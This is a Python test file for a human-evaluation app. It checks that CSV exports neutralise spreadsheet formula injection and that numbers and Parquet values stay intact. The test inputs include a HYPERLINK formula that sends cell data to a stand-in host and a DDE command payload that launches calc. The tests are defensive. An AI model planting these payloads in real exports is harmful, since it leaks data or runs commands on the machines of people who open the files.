"""Exports a spreadsheet opens: text that a spreadsheet would run as a formula is neutralised."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest

from av_model.cli import main as avgen
from human_eval_app.raters import join_with_code, queue_state, start_queue, submit_answers
from human_eval_app.spreadsheet import neutralise_formulas
from human_eval_app.store import Store

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def _rate_as(store: Store, code: str, name: str) -> None:
    ctx, _ = join_with_code(store, code, name)
    start_queue(store, ctx.rater_id)
    while (state := queue_state(store, ctx.rater_id)).next_assignment_id:
        submit_answers(store, ctx.rater_id, state.next_assignment_id, {"overall": "left", "sync": "tie"}, 1.5)


@pytest.mark.parametrize("name", [HOSTILE, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)"])
def test_cli_csv_export_neutralises_formulas(store: Store, make_study, tmp_path: Path, name: str) -> None:
    info = make_study(raters_per_pair=1, pairs_per_rater=4).info
    _rate_as(store, info.code, name)
    out = tmp_path / "judgments.txt"  # the format comes from --format, not the suffix
    assert avgen(["study", "export", info.code, "--format", "csv", "--out", str(out), "--db", store.url]) == 0
    with out.open(newline="") as f:
        rows = list(csv.DictReader(f))
    assert rows and {r["rater_name"] for r in rows} == {"'" + name}
    assert all(float(r["seconds"]) == 1.5 and int(r["rater_id"]) > 0 for r in rows)  # numbers stay numbers
    parquet = tmp_path / "judgments.parquet"  # typed, read by pandas/Arrow: values kept exactly
    assert avgen(["study", "export", info.code, "--out", str(parquet), "--db", store.url]) == 0
    assert set(pd.read_parquet(parquet)["rater_name"]) == {name}


def test_neutralise_formulas_leaves_numbers_and_plain_text() -> None:
    frame = pd.DataFrame({
        "score": [-1.5, 2.0, -3.0, 0.0, 1.0, 2.0],
        "count": [-1, 2, 3, 4, 5, 6],
        "text": ["-3", "=1+1", "\tx", "\rx", "plain - text", None],
        "typed": pd.Series(["@x", "+1.5", "ok", "-", "a=b", "1e-3"], dtype="string"),
    })
    out = neutralise_formulas(frame)
    assert out["score"].tolist() == frame["score"].tolist() and out["score"].dtype == frame["score"].dtype
    assert out["count"].tolist() == frame["count"].tolist() and out["count"].dtype == frame["count"].dtype
    assert out["text"].tolist()[:5] == ["-3", "'=1+1", "'\tx", "'\rx", "plain - text"]
    assert out["text"].isna().tolist()[5]
    assert out["typed"].tolist() == ["'@x", "+1.5", "ok", "'-", "a=b", "1e-3"] and out["typed"].dtype == "string"
    assert frame["text"][1] == "=1+1"  # the input is not changed
    written = out.to_csv(index=False)
    assert "\n-1.5,-1," in written  # a negative number is written as a number
